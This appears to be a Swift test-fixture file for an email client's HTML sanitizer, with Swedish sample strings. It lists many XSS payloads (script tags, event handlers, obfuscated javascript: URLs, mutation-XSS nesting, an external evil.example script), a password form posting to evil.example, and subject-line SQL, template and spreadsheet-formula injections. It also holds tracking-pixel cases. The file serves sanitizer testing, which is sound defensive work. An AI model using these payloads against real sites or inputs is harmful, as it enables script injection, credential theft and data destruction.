extension CorpusMail {
    /// Each must come out without a tag, an attribute or a scheme that is not on the list; that is
    /// looked at for every mail of the corpus.
    static let pages: [CorpusMail] =
        payloads.map { .page(.markup, $0) } + [
            .page(.markup, "<p>Hej <b>du</b></p>", .text("Hej du"), .page("<p>Hej <b>du</b></p>")),
            .page(.markup, "<b>a<i>b</b>c</i>", .page("<b>a<i>b</i></b>c")),
            .page(.markup, "</p></div></body>Hej", .page("Hej")),
            .page(.markup, "<ul><li>ett<li>två", .page("<ul><li>ett<li>två</li></li></ul>")),
            .page(
                .markup,
                "<a href='https://example.org/?a=1&amp;b=2'>x</a>",
                .page("href=\"https://example.org/?a=1&amp;b=2\"")
            ),
            .page(
                .markup,
                "<a href=https://example.org/ onclick=x()>x</a>",
                .page("href=\"https://example.org/\" rel=")
            ),
            .page(
                .markup,
                "<td colspan=2 rowspan='3'>x",
                .page("<td colspan=\"2\" rowspan=\"3\">x")
            ),
            .page(.markup, "<td colspan=1000000>x", .page("<td>x</td>")),
            .page(.markup, "<a href='mailto:a@b.se'>x</a>", .page("href=\"mailto:a@b.se\"")),
            .page(.markup, "1 < 2 & 3 > 2 \"'", .page("1 &lt; 2 &amp; 3 &gt; 2 &quot;&#39;")),
            .page(.markup, "<p>å&auml;&#246;</p>", .text("åäö"), .page("<p>åäö</p>")),
            .page(.markup, "<script>gömt</script>synligt", .text("synligt"), .lacks("gömt")),
            .page(.markup, "<style>gömt</style>synligt", .text("synligt"), .lacks("gömt")),
            .page(.markup, "<title>gömt</title>synligt", .text("synligt"), .lacks("gömt")),
            .page(.markup, "<!-- gömt -->synligt", .text("synligt"), .lacks("gömt")),
            .page(.markup, "<script>gömt", .lacks("gömt")),
            .page(.markup, "<!-- gömt", .lacks("gömt")),
            .page(.markup, "<img alt=\"<script>x</script>\" src=x>", .page("[&lt;script&gt;x")),
        ] + subjects

    private static let subjects: [CorpusMail] = [
        .header(
            .markup,
            "Subject: <script>alert(1)</script>",
            .subject("<script>alert(1)</script>")
        ),
        .header(
            .markup,
            "Subject: =?utf-8?q?=3Cimg_src=3Dx_onerror=3Dalert=281=29=3E?=",
            .subject("<img src=x onerror=alert(1)>")
        ),
        .header(.markup, "Subject: {{constructor.constructor('alert(1)')()}}"),
        .header(.markup, "Subject: ${7*7} #{7*7} <%= 7*7 %>", .subject("${7*7} #{7*7} <%= 7*7 %>")),
        .header(
            .markup,
            "Subject: '; DROP TABLE tickets; --",
            .subject("'; DROP TABLE tickets; --")
        ),
        .header(.markup, "Subject: =1+1|cmd|' /C calc'!A0", .subject("=1+1|cmd|' /C calc'!A0")),
    ]

    private static let payloads = [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<script\u{0}>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script/x>alert(1)</script>", "<script\n>alert(1)</script\n>",
        "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>",
        "<img src=\"x` `<script>alert(1)</script>\"` `>", "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>", "<svg/onload=alert(1)//",
        "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
        "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<math><a xlink:href=javascript:alert(1)>x",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<a href=javascript:alert(1)>x</a>", "<a href=JaVaScRiPt:alert(1)>x</a>",
        "<a href=\"java\nscript:alert(1)\">x</a>", "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"\u{1}javascript:alert(1)\">x</a>", "<a href=\"  javascript:alert(1)\">x</a>",
        "<a href=\"javascript&colon;alert(1)\">x</a>", "<a href=\"javascript&#58;alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>", "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
        "<a href=\"&#0000106avascript:alert(1)\">x</a>",
        "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>", "<a href=vbscript:msgbox(1)>x</a>",
        "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>x</a>",
        "<a href=file:///etc/passwd>x</a>", "<a href=//evil.example>x</a>", "<a href=/v1/x>x</a>",
        "<a href=\"https:javascript:alert(1)\">x</a>", "<a href=blob:x>x</a>",
        "<a href=\"https://x\" href=\"javascript:alert(1)\">x</a>",
        "<a href='https://x/\"onmouseover=\"alert(1)'>x</a>",
        "<a href=\"https://x/'onmouseover='alert(1)\">x</a>",
        "<a href=https://x/><script>alert(1)</script>>x</a>", "<a name=x id=y class=z>x</a>",
        "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>",
        "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
        "<applet code=x>", "<base href=javascript:alert(1)//>",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "<link rel=stylesheet href=javascript:alert(1)>", "<body onload=alert(1)>",
        "<body background=javascript:alert(1)>", "<div style=\"background:url(javascript:x)\">x",
        "<div style=\"width:expression(alert(1))\">x", "<p style=position:fixed;top:0>x",
        "<style>@import 'javascript:alert(1)';</style>", "<style><!--</style><script>x</script>-->",
        "<form action=https://evil.example><input name=p type=password><button>Logga in</form>",
        "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>",
        "<textarea autofocus onfocus=alert(1)>x", "<keygen autofocus onfocus=alert(1)>",
        "<button formaction=javascript:alert(1)>x", "<isindex action=javascript:alert(1)>",
        "<details open ontoggle=alert(1)>x", "<marquee onstart=alert(1)>x</marquee>",
        "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>",
        "<template><script>alert(1)</script></template>", "<noscript><p title=\"</noscript><x>\">",
        "<xmp><script>alert(1)</script></xmp>", "<plaintext><script>alert(1)</script>",
        "<listing>&lt;script&gt;alert(1)</listing>", "<title><img src=x onerror=alert(1)></title>",
        "<textarea></textarea><script>alert(1)</script>", "<!--><script>alert(1)</script>-->",
        "<!--><img src=x onerror=alert(1)>", "<!-- --!><script>alert(1)</script>",
        "<![CDATA[<script>alert(1)</script>]]>", "<?xml version=1?><script>alert(1)</script>",
        "<x onclick=alert(1)>x</x>", "<a\u{B}href=javascript:alert(1)>x</a>",
        "<<script>alert(1)//<</script>",
        "<table background=javascript:alert(1)><td background=javascript:x>x",
        "<col onclick=x><colgroup><frame src=x><frameset onload=alert(1)>",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<p onmouseover\u{A0}=alert(1)>x",
        "<custom-element is=x onx=y>x", "<a href=\"https://x\u{202E}gro.elpmaxe\">x</a>",
        "<b " + String(repeating: "a=1 ", count: 5_000) + ">x</b>",
        String(repeating: "<div>", count: 5_000) + "djupt",
        String(repeating: "<a href=\"", count: 2_000), String(repeating: "</b>", count: 5_000),
        String(repeating: "<!--", count: 5_000), String(repeating: "&", count: 5_000),
    ]

    /// Nothing of it is fetched, and nothing in the page as it is shown asks for that.
    static let remoteContent: [CorpusMail] = [
        "<img src=https://track.example/1.gif width=1 height=1>",
        "<img srcset=\"https://track.example/2.gif 2x\" src=cid:x>",
        "<link rel=prefetch href=https://track.example>", "<div style='background:url(//track)'>x",
        "<style>body{background:url(https://track.example)}</style>",
        "<video poster=https://track.example></video>", "<input type=image src=//track.example>",
        "<picture><source srcset=//track.example></picture>",
        "<a ping=//track.example href=x>x</a>",
        "<object data=https://track.example></object>", "<bgsound src=//track.example>",
        "<table><td background=//track.example>x", "<svg><image href=//track.example /></svg>",
        "<svg><use href=//track.example#x></svg>", "<meta http-equiv=refresh content='0;//track'>",
    ].map { .page(.remoteContent, $0) }
}
